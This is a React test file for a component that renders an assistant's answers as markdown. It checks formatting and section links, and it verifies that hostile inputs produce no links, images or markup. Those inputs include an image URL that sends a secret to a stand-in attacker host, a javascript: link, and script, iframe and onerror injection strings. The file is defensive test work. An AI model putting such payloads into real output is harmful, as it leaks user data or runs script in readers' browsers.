import { render, screen } from '@testing-library/react'
import { describe, expect, it, vi } from 'vitest'
import { show } from '../testing/page.tsx'
import AnswerMarkdown from './AnswerMarkdown.tsx'

const set = (text: string) => render(<AnswerMarkdown text={text} />).container

describe('an answer of an assistant', () => {
  it('is set with emphasis, lists, code and quotations', () => {
    const answer = set('**One** and *two* in `three`:\n\n- a\n- b\n\n1. c\n\n> d')
    const found = [...answer.querySelectorAll('strong, em, code, ul, ol, li, blockquote')]
    expect(found.map(({ tagName }) => tagName)).toEqual([
      'STRONG',
      'EM',
      'CODE',
      'UL',
      'LI',
      'LI',
      'OL',
      'LI',
      'BLOCKQUOTE',
    ])
  })

  it.each([
    '![stolen](https://evil.example/?q=secret)',
    '[press](javascript:alert(1))',
    '[press](https://evil.example)',
    '<https://evil.example>',
    'https://evil.example',
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<a href="https://evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '[ref]: https://evil.example "t"\n\n![x][ref] [y][ref]',
    '<form action="https://evil.example"><button>x</button></form>',
  ])('holds no link, image or markup of its own: %s', (text) => {
    const answer = set(text)
    expect(answer.querySelectorAll('a, img, script, iframe, form, button, link, [src], [href]')).toHaveLength(
      0,
    )
  })

  it('leads to the section whose title it quotes, and only to that', async () => {
    const followed = vi.fn()
    const { user, at } = show(
      <AnswerMarkdown
        text={'In Didactic Content under "What is (not) in it?": "A note has readers." Not "Something else".'}
        places={[
          { title: 'What is', href: '/chapter/1#short' },
          { title: 'What is (not) in it?', href: '/chapter/1#jobs' },
        ]}
        onPlace={followed}
      />,
    )
    const links = screen.getAllByRole('link')
    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
      ['What is (not) in it?', '/chapter/1#jobs'],
    ])
    await user.click(links[0] as HTMLElement)
    expect(at()).toBe('/chapter/1#jobs')
    expect(followed).toHaveBeenCalledOnce()
  })
})
